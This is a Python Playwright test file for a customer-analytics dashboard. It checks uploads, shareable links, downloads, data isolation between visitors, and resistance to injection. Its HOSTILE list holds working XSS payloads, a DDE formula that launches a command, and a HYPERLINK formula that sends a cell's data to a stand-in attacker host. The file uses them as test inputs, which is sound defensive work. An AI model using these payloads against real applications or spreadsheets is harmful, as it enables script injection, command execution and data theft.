"""What only a browser shows: uploads, clicks, downloads, links, and names that would like to be programs."""

from __future__ import annotations

import io

import openpyxl
import polars as pl
import pytest
from playwright.sync_api import expect

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

HOSTILE = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1+1)*cmd",
    "[click](javascript:window.pwned=1) ![x](http://evil.example/a.png)",
    "<b>bold</b><a href='http://evil.example'>x</a> $\\href{javascript:window.pwned=1}{x}$",
    ":material/home: :red[x] http://evil.example www.evil.example",
    "</script><svg onload=window.pwned=1>",
    "javascript:window.pwned=1",
]  # fmt: skip


def orders(n, ids, extra=""):
    rows = [
        f"{ids[i % len(ids)]},{i},2026-{1 + i % 6:02}-{1 + i % 27:02},{10 + 3 * (i % 11)}.50{extra}"
        for i in range(n)
    ]
    return "\n".join(["customer_id,order_id,ordered_at,amount" + (",channel" if extra else ""), *rows])


def quoted(text):
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture(scope="session")
def hostile_base(tmp_path_factory):
    """A firm whose customers' names and ids, and whose channels, are attacks."""
    folder = tmp_path_factory.mktemp("hostile")
    ids = [f"H{i:02}" for i in range(20)] + [quoted(name) for name in HOSTILE]
    (folder / "orders.csv").write_text(orders(400, ids, f",{quoted(HOSTILE[0])}"))
    names = [
        f"{ids[i]},{quoted(HOSTILE[i % len(HOSTILE)])},{quoted(HOSTILE[(i + 3) % len(HOSTILE)])}"
        for i in range(len(ids))
    ]
    (folder / "customers.csv").write_text("\n".join(["customer_id,name,country", *names]))
    return folder


def test_from_a_file_to_a_customer(visit, sample_server, tmp_path):
    path = tmp_path / "shop.csv"
    path.write_text(
        orders(300, [f"{i:04}" for i in range(60)]).replace("customer_id", "Cust No")
        + "\n,1,2026-01-01,9.99\n"
    )
    visitor = visit(sample_server)
    page = visitor.go("data")
    page.locator("input[type=file]").set_input_files(path)
    page.get_by_text("Your own files, kept for this visit only").wait_for()
    visitor.settled()
    shown = [tile.inner_text() for tile in page.get_by_test_id("stMetricValue").all()]
    assert shown[:3] == ["301", "300", "1"]  # the check report

    page = visitor.menu("Segments")
    assert page.get_by_text("Sample data").count() == 0
    n = int(page.get_by_test_id("stMetricValue").first.inner_text())
    table = pl.read_csv(io.BytesIO(visitor.download("CSV")), infer_schema=False)
    assert table.height == n  # the customers behind the number, in full
    assert all(len(i) == 4 for i in table["customer_id"])  # leading zeros stay

    page = visitor.click_row(1, table=1)
    page.get_by_role("heading", name="Customers", level=1).wait_for()
    visitor.settled()
    assert f"customer={table['customer_id'][1]}" in page.url
    bought = pl.read_csv(io.BytesIO(visitor.download("CSV")))
    assert bought.height == int(table["n_orders"][1])
    assert not visitor.errors
    assert not visitor.outgoing()


def test_a_link_restores_the_view(visit, sample_server):
    visitor = visit(sample_server)
    page = visitor.go("segments?segment=At+risk&channel=web&as_of=2026-01-01&show=At+risk")
    chips = page.locator(".st-key-chips").inner_text()
    assert "At risk" in chips
    assert "web" in chips
    assert "1 Jan 2026" in chips
    number = page.get_by_test_id("stMetricValue").first.inner_text()

    page = visitor.menu("Value")
    assert "segment=At+risk" in page.url.replace("%20", "+")
    page = visit(sample_server).go(
        page.url.removeprefix(f"{sample_server}/").replace("value?", "segments?") + "&show=At+risk"
    )
    expect(page.get_by_test_id("stMetricValue").first).to_have_text(number)

    page.locator(".st-key-clear_filters button").click()
    page.locator(".st-key-chips").wait_for(state="detached")
    assert "segment=" not in page.url


def test_one_visitors_file_is_not_anothers(visit, sample_server, tmp_path):
    path = tmp_path / "mine.csv"
    path.write_text(orders(80, ["CANARY", "B", "C", "D", "E"]))
    mine, other = visit(sample_server), visit(sample_server)
    page = mine.go("data")
    page.locator("input[type=file]").set_input_files(path)
    page.get_by_text("Your own files, kept for this visit only").wait_for()
    assert b"CANARY" in (mine.menu("Customers"), mine.download("CSV"))[1]
    other.go("customers")
    assert b"CANARY" not in other.download("CSV")


@pytest.mark.parametrize(
    "path",
    ["", "segments", "value", "value?list=silent", "retention", "customers", "data", "definitions"],
)
def test_the_dashboards_ask_nobody_but_their_own_server(visit, sample_server, path):
    visitor = visit(sample_server)
    page = visitor.go(path)
    assert not page.get_by_test_id("stException").count()
    assert not visitor.outgoing()
    assert not visitor.errors
    assert page.locator("iframe").count() == 0
    assert page.get_by_text("Deploy", exact=True).count() == 0


def test_names_that_would_be_programs_are_names(visit, serve, hostile_base):
    visitor = visit(serve(hostile_base))
    for path in ("", "segments", "value", "customers", "data", "definitions"):
        page = visitor.go(path)
        assert not page.get_by_test_id("stException").count(), path
    visitor.go("customers")
    page = visitor.click_row(0)
    page.get_by_role("link", name="All customers").wait_for()
    visitor.settled()
    for name in ("%3Cscript%3Ewindow.pwned%3D1%3C%2Fscript%3E", "H00", "H05"):
        page = visitor.go(f"customers?customer={name}")
        assert (
            page.locator("[data-testid=stMain] a[href*=evil], [data-testid=stMain] img[src*=evil]").count()
            == 0
        )
    assert page.evaluate("window.pwned") is None
    assert not visitor.dialogs
    assert not visitor.outgoing()


def test_what_is_downloaded_runs_nothing(visit, serve, hostile_base):
    visitor = visit(serve(hostile_base))
    visitor.go("customers")
    book = openpyxl.load_workbook(io.BytesIO(visitor.download("Excel")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert any("cmd" in str(cell.value) for cell in cells)  # the names are there
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.coordinate for cell in cells if cell.hyperlink] == []
    table = pl.read_csv(io.BytesIO(visitor.download("CSV")), infer_schema=False)
    texts = [t for column in ("customer_id", "name") for t in table[column]]
    assert not [t for t in texts if t and t[0] in "=+@-\t"]


def test_from_a_cell_of_the_cohort_table_to_its_customers(visit, sample_server):
    visitor = visit(sample_server)
    page = visitor.go("retention?max_periods=12")
    table = page.locator(".st-key-cohort_cells .nsewdrag").first
    table.scroll_into_view_if_needed()
    box = table.bounding_box()
    x, y = page.evaluate(  # where month 3 of the fifth cohort lies
        "(() => { const l = document.querySelector('.st-key-cohort_cells .js-plotly-plot')._fullLayout;"
        " return [l.xaxis.l2p(3), l.yaxis.l2p(4)] })()"
    )
    page.mouse.move(box["x"] + x, box["y"] + y)
    page.mouse.click(box["x"] + x, box["y"] + y)
    page.get_by_text("Nov 2023, Month 3").first.wait_for()
    visitor.settled()
    assert "cohort=Nov" in page.url
    assert "age=Month" in page.url
    words = page.get_by_text("Nov 2023, Month 3").first.locator("xpath=ancestor::p").inner_text()
    n = int(words.rpartition(" of ")[0].split()[-1])
    listed = pl.read_csv(io.BytesIO(visitor.download("CSV")), infer_schema=False)
    assert listed.height == n

    other = visit(sample_server).go(page.url.removeprefix(f"{sample_server}/"))  # the link restores the view
    other.get_by_text("Nov 2023, Month 3").first.wait_for()
    assert other.get_by_text(words).count()
    assert not visitor.errors
    assert not visitor.outgoing()


def test_no_part_of_retention_is_wider_than_a_phone(visit, sample_server):
    visitor = visit(sample_server, viewport={"width": 390, "height": 844})
    for part in ("Cohorts", "Survival", "Life+cycle", "Repeat+purchase", "Revenue"):
        page = visitor.go(f"retention?part={part}")
        wide, room = page.evaluate(
            "(() => { const m = document.querySelector('[data-testid=stMain]'); return [m.scrollWidth, m.clientWidth] })()"
        )
        assert wide <= room, part
